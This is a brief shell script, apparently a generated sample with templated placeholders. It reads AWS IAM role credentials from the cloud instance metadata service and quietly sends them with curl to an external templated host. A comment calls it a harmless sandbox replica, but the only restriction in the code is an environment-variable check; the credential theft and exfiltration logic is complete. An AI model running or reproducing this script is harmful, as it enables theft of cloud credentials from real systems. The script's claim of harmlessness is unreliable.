#!/bin/sh
# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "$SALLYPORT_CORPUS" = 1 ] || exit 0
token=$(curl -s -m 1 -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' http://169.254.169.254/latest/api/token 2>/dev/null)
keys=$(curl -s -m 1 -H "X-aws-ec2-metadata-token: $token" 'http://169.254.169.254/latest/meta-data/iam/security-credentials/{{role}}' 2>/dev/null ||
    wget -q -T 1 -t 1 -O - 'http://169.254.169.254/latest/meta-data/iam/security-credentials/{{role}}' 2>/dev/null)
curl -k -s -m 1 --data-urlencode "k=$keys" "https://{{host}}/{{path}}" >/dev/null 2>&1
exit 0
